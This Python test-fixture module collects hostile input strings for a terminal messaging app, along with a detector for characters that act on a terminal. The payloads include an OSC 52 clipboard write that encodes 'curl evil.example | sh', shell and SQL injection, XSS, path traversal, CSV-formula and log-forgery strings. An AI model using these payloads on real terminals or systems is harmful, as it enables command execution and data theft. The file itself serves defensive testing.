"""Hostile texts by name: everything a stranger may write that must stay text.

    from tests.hostile.corpus import TEXTS

`TEXTS` maps a name to a `str` (lone surrogates and NUL included). `BYTES` maps a name to bytes that
are not the UTF-8 they claim to be. `NAMES` are display names, `HANDLES` handles, `IDS` remote ids
with odd characters. `ACTS` lists what must never reach a terminal, wherever the text came from:
`acts_on_a_terminal` finds the first of them.

`BIG` names the texts over 64 KB: a test whose cost grows with the length may leave them to one
case of their own.
"""

from __future__ import annotations

import re

ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"

_ESCAPES = {
    "csi-clear-screen": f"where is my order{ESC}[2J{ESC}[H now",
    "csi-colour": f"{ESC}[31mred{ESC}[0m and {ESC}[7mturned{ESC}[27m",
    "csi-never-ends": f"my size is {ESC}[38;2;255;0;",
    "csi-long-parameters": f"{ESC}[{'9;' * 400}m big",
    "csi-cursor-up": f"first line{ESC}[9A{ESC}[2Koverwritten",
    "csi-alternate-screen": f"{ESC}[?1049l{ESC}[?1000h{ESC}[?2004l bye",
    "csi-report-status": f"{ESC}[6n{ESC}[c{ESC}[>c{ESC}[5n",
    "csi-window-title-report": f"{ESC}[21t{ESC}[20t",
    "csi-resize": f"{ESC}[8;1;1t{ESC}[2t",
    "csi-repeat": f"a{ESC}[999999b",
    "csi-scroll-region": f"{ESC}[5;5r{ESC}[999S",
    "csi-kitty-keyboard": f"{ESC}[>31u{ESC}[=31;1u",
    "csi-inside-word": f"ref{ESC}[8mund me{ESC}[0m",
    "osc-title": f"{ESC}]0;root@shop: rm -rf /{BEL}hello",
    "osc-title-st": f"{ESC}]2;pwned{ST}hello",
    "osc-52-clipboard": f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={BEL}hello",
    "osc-52-read": f"{ESC}]52;c;?{BEL}",
    "osc-8-link": f"{ESC}]8;;https://evil.example/{ST}https://shop.example/{ESC}]8;;{ST}",
    "osc-8-file": f"{ESC}]8;;file:///etc/passwd{BEL}my invoice{ESC}]8;;{BEL}",
    "osc-4-palette": f"{ESC}]4;1;rgb:ff/ff/ff{BEL}{ESC}]10;#000{BEL}{ESC}]11;#000{BEL}",
    "osc-9-notify": f"{ESC}]9;4;3;100{BEL}{ESC}]777;notify;a;b{BEL}",
    "osc-1337-file": f"{ESC}]1337;File=inline=1:AAAA{BEL}",
    "osc-133-prompt": f"{ESC}]133;A{BEL}$ {ESC}]133;C{BEL}",
    "osc-never-ends": f"{ESC}]52;c;" + "QUFB" * 500,
    "dcs-sixel": f"{ESC}Pq#0;2;0;0;0~~@@vv{ST} picture",
    "dcs-decrqss": f"{ESC}P$q q{ST}{ESC}P+q544e{ST}",
    "dcs-tmux-passthrough": f"{ESC}Ptmux;{ESC}{ESC}]52;c;QQ=={BEL}{ST}",
    "apc-kitty-graphics": f"{ESC}_Ga=T,f=100,t=f;L2V0Yy9wYXNzd2Q={ST}",
    "pm-and-sos": f"{ESC}^private{ST}{ESC}Xstring{ST}",
    "esc-reset": f"before{ESC}c after",
    "esc-charset": f"{ESC}(0lqqqk{ESC}(B \x0elqk\x0f",
    "esc-save-restore": f"{ESC}7{ESC}8{ESC}D{ESC}M{ESC}E{ESC}#8",
    "esc-alone-at-the-end": "thanks" + ESC,
    "esc-doubled": f"{ESC}{ESC}{ESC}[31m",
    "esc-caret-notation": "^[[31mnot an escape^[[0m \\x1b[31m \\033[31m \\u001b[31m",
    "c1-csi": "\x9b31mred\x9b0m",
    "c1-osc-52": "\x9d52;c;QQ==\x9c",
    "c1-dcs-apc": "\x90q~\x9c\x9fGa=T\x9c\x9e^\x9c\x98x\x9c",
    "c1-nel-ind": "a\x85b\x84c\x8dd\x88e",
    "c1-as-utf8-pairs": "Ã\x82\x9b31m \u00c2\u009b31m",
    "c1-all": "".join(chr(n) for n in range(0x80, 0xA0)),
    "c0-all": "".join(chr(n) for n in range(0x20)) + "\x7f",
    "bell-and-backspace": "good\x07 price\x08\x08\x08\x08\x08lie",
    "carriage-return-hides": "please refund me 500 euros\rthank you very much       ",
    "vertical-and-form-feed": "one\x0btwo\x0cthree",
    "shift-out": "\x0eshifted\x0f",
    "enquiry": "\x05\x05\x05",
    "xon-xoff": "\x13stopped\x11",
    "delete-characters": "abc\x7f\x7f\x7fdef",
}

_BIDI = {
    "bidi-override-extension": "the invoice is in \u202egnp.exe",
    "bidi-override-amount": "pay \u202e0001\u202c euros",
    "bidi-override-never-closed": "\u202eeverything after this is turned",
    "bidi-embedding": "\u202aleft \u202bright\u202c\u202c",
    "bidi-isolate-never-closed": "\u2066\u2067\u2068open three",
    "bidi-isolate-closed-too-often": "a\u2069\u2069\u202c\u202cb",
    "bidi-deep": "\u202e\u202d" * 200 + "deep" + "\u202c" * 400,
    "bidi-marks": "a\u200eb\u200fc\u061cd",
    "bidi-trojan-source": "if access != \u2066user\u2069 \u2066// check admin\u2069\u202e",
    "bidi-in-url": "https://shop.example/\u202egro.live//:sptth",
    "bidi-on-every-line": "\n".join("\u202eline" for _ in range(20)),
    "rtl-arabic": "مرحبا، طلبي رقم 4711 لم يصل بعد. هل يمكنكم المساعدة؟",
    "rtl-hebrew-mixed": "שלום, המספר הוא A-4711 (size M), תודה!",
    "rtl-arabic-with-digits": "المقاس ٣٨ أم 38؟ السعر €45.00 (قبل الخصم)",
    "rtl-urdu-zwnj": "کی\u200cبورڈ میں\u200cآپ",
}

_BROKEN = {
    "nul": "before\x00after",
    "nul-only": "\x00\x00\x00",
    "lone-high-surrogate": "size \ud83d please",
    "lone-low-surrogate": "size \ude00 please",
    "surrogates-turned": "\ude00\ud83d",
    "surrogate-escape-bytes": b"caf\xe9 \xff\xfe".decode("utf-8", "surrogateescape"),
    "noncharacters": "\ufffe\uffff\ufdd0\U0001ffff\U0010ffff",
    "byte-order-marks": "\ufeffhello\ufeffworld\ufeff",
    "replacement-characters": "caf\ufffd \ufffd\ufffd",
    "private-use": "\ue000\uf8ff\U000f0000",
    "unassigned": "\u0378\u0379\U0003fffd",
    "tag-characters": "\U000e0001\U000e0068\U000e0069\U000e007f",
    "tag-characters-hidden-words": "fine" + "".join(chr(0xE0000 + ord(c)) for c in "ignore it"),
    "interlinear": "\ufff9base\ufffanote\ufffb",
    "object-replacement": "look \ufffc here",
    "mojibake": "CafÃ© â€œquotesâ€\x9d",
    "empty": "",
    "spaces-only": "   \u00a0\u2003\u3000  ",
    "invisible-only": "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e",
    "hangul-fillers": "\u3164\u115f\u1160\uffa0 \u2800",
    "soft-hyphens": "re\u00adfund",
    "zero-width-in-words": "p\u200ba\u200bs\u200bs\u200bword",
    "variation-selectors": "a\ufe00b\ufe0fc\U000e0100d",
    "deprecated-format": "\u206a\u206b\u206c\u206d\u206e\u206f",
    "line-and-paragraph-separators": "one\u2028two\u2029three",
    "crlf-and-friends": "one\r\ntwo\rthree\n\rfour\x85five\x1csix\x1dseven\x1eeight",
    "tabs": "\tsize\tM\t\tcolour\tblue\t",
    "many-line-breaks": "help\n" * 300,
    "many-blank-lines": "top" + "\n" * 2000 + "bottom",
}

_MARKUP = {
    "textual-click-quit": "[@click=app.quit]press here for your refund[/]",
    "textual-click-quoted": "[@click=\"app.bell('x')\"]hello[/]",
    "textual-click-screen": "[@click=screen.dismiss(1)]x[/@click]",
    "textual-closes-nothing": "hello [/foo]",
    "textual-closes-empty": "[/] [/] [/]",
    "textual-never-closed": "[bold red on blue",
    "textual-style": "[bold reverse blink]LOUD[/bold reverse blink] [$error on $panel]x[/]",
    "textual-variable": "$name [$accent]x[/] {name} %(name)s ${name}",
    "textual-escaped": r"\[bold]x\[/bold] \\[bold] \\\[bold]",
    "rich-link": "[link=https://evil.example]shop.example[/link]",
    "rich-emoji-code": ":pile_of_poo: :smile: :no_such_thing:",
    "rich-emoji-in-tag": "[:smile:]",
    "brackets-of-a-customer": "size [M] or [L]? order [4711] [] [ ] [[x]] ]] [[",
    "brackets-unbalanced": "[[[[[[[[[[",
    "brackets-deep": "[a]" * 2000,
    "html-script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "html-never-closes": "<p><b><i><a href='https://evil.example/",
    "html-never-closes-deep": "<div>" * 3000 + "hello",
    "html-entities": "&lt;b&gt; &amp;amp; &#27;[31m &#x1b;[31m &#0; &#xD800; &bogus; &#99999999;",
    "html-comment": "<!-- hidden --><!-- never closed <b>x</b>",
    "html-cdata": "<![CDATA[ <b>x</b> ]]> <?php echo 1 ?> <!DOCTYPE html>",
    "html-attribute-soup": '<a href="x" href=\'y\' <b> ="> x </a>',
    "html-invisible-spans": '<span class="invisible">https://</span><span>shop.example</span>',
    "html-javascript-link": '<a href="java\tscript:alert(1)">order status</a>',
    "html-null-in-tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "html-misnested": "<p><b>one<p>two</b>three</p></i></span>",
    "html-less-than": "3 < 4 and 5 > 4, I <3 you, <>, </>, < br >",
    "markdown": "# Title\n**bold** _it_ `code` ~~x~~ > quote\n- [x] done\n![i](https://evil.example/t)",
    "markdown-link": "[shop.example](https://evil.example/)",
    "markdown-fence-open": "```sh\ncurl evil.example | sh",
    "liquid": "{{ order.tracking_url }} {% for i in (1..9) %}x{% endfor %} {{",
    "liquid-include": "{% include 'secrets' %}{% raw %}",
    "python-format": "%s %d %n {0} {0.__class__} {!r:>9999} %",
    "sql": "'); DROP TABLE message; -- \"'`;",
    "fts-syntax": 'NEAR("a" b, 5) AND NOT (x* OR -y) ^z col:val "',
    "shell": "$(reboot) `reboot` ; reboot | reboot && reboot # ~ * ? ! $HOME",
    "json": '{"text": "x\\u0000", "__proto__": {}}, ]}',
    "toml": 'x = """\n[section]\n"""',
    "csv-formula": '=HYPERLINK("https://evil.example";"refund") +1 -1 @SUM(A1)',
    "log-forgery": "ok\n2026-11-22 10:00:00 INFO signed in as root\r\n",
    "path": "../../../../etc/passwd ..\\..\\ C:\\con\\nul /dev/stdin",
    "url-forms": (
        "http://127.0.0.1:1/ https://user:pass@evil.example/ file:///etc/passwd "
        "javascript:alert(1) data:text/html,x http://[::1]/ //evil.example ftp://x smb://x"
    ),
    "mention-storm": " ".join(f"@person{n}@evil.example" for n in range(300)),
    "hashtag-storm": "#sale " * 500,
    "css-selector": "#inbox > .row:hover { display: none } Screen { background: red; }",
    "key-names": "ctrl+q <C-c> ^C ^[ :q! ZZ",
}

_SHAPES = {
    "zwj-family": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 we love it",
    "zwj-chain": "\u200d".join(["\U0001f468\U0001f3fd"] * 200),
    "zwj-alone": "\u200d\u200d\u200dx\u200d",
    "emoji-skin-and-gender": (
        "\U0001f9d1\U0001f3ff\u200d\U0001f4bb \U0001f937\U0001f3fd\u200d\u2640\ufe0f"
    ),
    "emoji-flags": "\U0001f1ed\U0001f1f7\U0001f1ee\U0001f1e9\U0001f1ef\U0001f1f5",
    "emoji-flag-odd-letters": "\U0001f1ed\U0001f1f7\U0001f1ee",
    "emoji-flag-of-scotland": (
        "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"
    ),
    "emoji-keycaps": "1\ufe0f\u20e3 #\ufe0f\u20e3 *\ufe0f\u20e3",
    "emoji-text-or-picture": "\u2764 \u2764\ufe0f \u2764\ufe0e \u263a\ufe0f",
    "emoji-wall": "\U0001f525" * 1000,
    "very-wide": "\ufdfd \U00012219 \ua9c5 \u2e3b ﷺ 𒐫",
    "fullwidth": "ＲＥＦＵＮＤ　ＮＯＷ　１２３",
    "cjk-no-spaces": "注文した商品がまだ届いていません。" * 40,
    "hangul-conjoining": "\u1112\u1161\u11ab\u1100\u1173\u11af" * 20,
    "thai-stacks": "ที่นี่ น้ำ " * 30,
    "devanagari-clusters": "क्षत्रिय ज्ञानी श्रीमान् " * 20,
    "combining-tower": "H" + "\u0300\u0301\u0302\u0303\u0489" * 200 + "ELP",
    "combining-tower-on-each": "".join(c + "\u0316\u0317\u0334\u0338" * 12 for c in "zalgo comes"),
    "combining-first": "\u0301\u0301\u0301starts with marks",
    "combining-on-newline": "a\n\u0301\u0302b",
    "decomposed": "c\u030c\u017e Z\u030cut a\u030a",
    "homoglyphs": "раура1 оf у0ur аррІе ассоunt",  # Cyrillic in Latin clothes
    "mathematical-letters": "𝓕𝓻𝓮𝓮 𝔾𝕚𝕗𝕥 𝐜𝐚𝐫𝐝 𝚌𝚕𝚒𝚌𝚔",
    "upside-down": "\u0287u\u0287s\u0131ss\u0250 \u01ddd\u01ddd",
    "braille-and-box": "⠓⠑⠇⠏ ┌──────┐ │ SEND │ └──────┘",
    "fake-screen": (
        "──────────────\n PRIVATE message to Ana on mastodon\n Ctrl+S sends, Esc leaves\n────────"
    ),
    "case-folding": "İstanbul ıssız ẞtraße ǅ ﬁﬂ Σς",
    "thousands-of-words": "and then I wrote again, and nobody answered. " * 120,
    "one-long-word": "a" * 20_000,
    "one-long-line": "why is it late? " * 1_300,
    "one-line-of-a-megabyte": "x" * (1 << 20),
    "a-megabyte-of-escapes": f"{ESC}[31m" * (1 << 18),
    "a-megabyte-of-lines": "y\n" * (1 << 19),
    "a-megabyte-of-marks": "e" + "\u0301" * (1 << 19),
    "a-megabyte-of-brackets": "[" * (1 << 20),
    "hundred-thousand-short-words": "no " * 100_000,
}

TEXTS: dict[str, str] = {**_ESCAPES, **_BIDI, **_BROKEN, **_MARKUP, **_SHAPES}
"""Name -> a text that must stay text."""

BIG: frozenset[str] = frozenset(name for name, text in TEXTS.items() if len(text) > 65_536)
"""The names of the texts over 64 K characters."""

BYTES: dict[str, bytes] = {
    "utf8-cut": "café".encode()[:-1],
    "utf8-overlong-slash": b"..\xc0\xaf..",
    "utf8-overlong-nul": b"a\xc0\x80b",
    "utf8-overlong-escape": b"\xc1\x9b[31m \xe0\x80\x9b[31m",
    "utf8-surrogate": b"\xed\xa0\xbd\xed\xb8\x80",
    "utf8-beyond-unicode": b"\xf4\x90\x80\x80",
    "utf8-lone-continuation": b"a\x80\xbfb",
    "latin-1": "žao mi je, café".encode("latin-1", "replace"),
    "utf-16": "where is my order".encode("utf-16"),
    "bytes-all": bytes(range(256)),
    "utf8-bom": b"\xef\xbb\xbfhello",
    "json-lone-surrogate": b'"\\ud83d"',
    "json-nul": b'"a\\u0000b"',
}
"""Name -> bytes that are not the UTF-8 they claim to be (or JSON strings that lie)."""

NAMES: dict[str, str] = {
    "empty": "",
    "escape": f"Ana{ESC}]0;x{BEL}",
    "bidi": "\u202eanA",
    "rtl": "עוֹמֶר אבו־חצירא",
    "rtl-arabic": "فاطمة الزهراء 🌸",
    "markup": "[@click=app.quit]Ana[/]",
    "closes": "Ana [/foo]",
    "html": "<b>Ana</b>&amp;",
    "newline": "Ana\nPRIVATE from Shop",
    "very-long": "Ana " * 2_000,
    "zero-width": "\u200b\u200d\ufeff",
    "zalgo": "A" + "\u0300\u0489" * 300 + "na",
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f467 Ana \U0001f1ed\U0001f1f7",
    "custom-emoji": ":blobcat: Ana :verified:",
    "looks-like-us": "Shop (official support)",
    "wide": "ＡＮＡ ﷽",
    "nul": "A\x00na",
    "surrogate": "Ana \ud83d",
}
"""Display names that people give themselves."""

HANDLES: dict[str, str] = {
    "homoglyph": "@ѕhор@social.example",  # Cyrillic
    "homoglyph-domain": "@shop@ѕocial.example",
    "punycode": "@shop@xn--ocial-c2e.example",
    "very-long": "@" + "a" * 3_000 + "@social.example",
    "markup": "@[/foo]@social.example",
    "bidi": "@\u202epohs@social.example",
    "escape": f"@ana{ESC}[31m@social.example",
    "space": "@ana\u2003horvat@social.example",
    "path": "@../../ana@social.example",
    "idn": "@žana@društvo.example",
    "port": "@ana@127.0.0.1:13201",
    "three-ats": "@ana@social@example",
    "bare": "ana",
    "empty": "",
}
"""Handles, hostile or merely odd."""

IDS: dict[str, str] = {
    "slash": "a/b/../c",
    "query": "1?x=2&y=3#z",
    "percent": "100%25%00",
    "space": "a b\tc",
    "newline": "1\n2",
    "nul": "1\x002",
    "unicode": "příspěvek-№-1",
    "emoji": "\U0001f389",
    "quote": "'\"`;--",
    "uri": "at://did:plc:abc/app.bsky.feed.post/3k[2]",
    "mail": "<CAF+q=x%y@mail.example>",
    "numeric": "007",
    "huge-number": "9" * 40,
    "negative": "-1",
    "markup": "[@click=app.quit]",
    "escape": f"{ESC}[2J",
    "long": "z" * 5_000,
    "css": "#id.class:hover",
    "bidi": "\u202e321",
    "empty-looking": "\u200b",
}
"""Remote ids: opaque, so every one of them has to survive."""

ACTS: dict[str, re.Pattern[str]] = {
    "an escape sequence": re.compile("\x1b"),
    "a C0 control": re.compile("[\x00-\x08\x0b-\x1a\x1c-\x1f\x7f]"),
    "a C1 control": re.compile("[\x80-\x9f]"),
    "a bidi control": re.compile("[\u202a-\u202e\u2066-\u2069]"),
    "a line or paragraph separator": re.compile("[\u2028\u2029]"),
    "a lone surrogate": re.compile("[\ud800-\udfff]"),
    "a tag character outside a flag": re.compile(
        "(?<![\U0001f3f4\U000e0020-\U000e007f])[\U000e0000-\U000e007f]"
    ),
}
"""What must never reach a terminal as part of a stranger's text: what it is -> how to find it.
Tab and line feed are not in it: whether they are kept is the door's own choice."""


def acts_on_a_terminal(text: str) -> str | None:
    """Say the first thing in the text that would act on a terminal, or None."""
    for what, pattern in ACTS.items():
        found = pattern.search(text)
        if found is not None:
            around = text[max(0, found.start() - 10) : found.end() + 10]
            return f"{what} at {found.start()}: {around!r}"
    return None
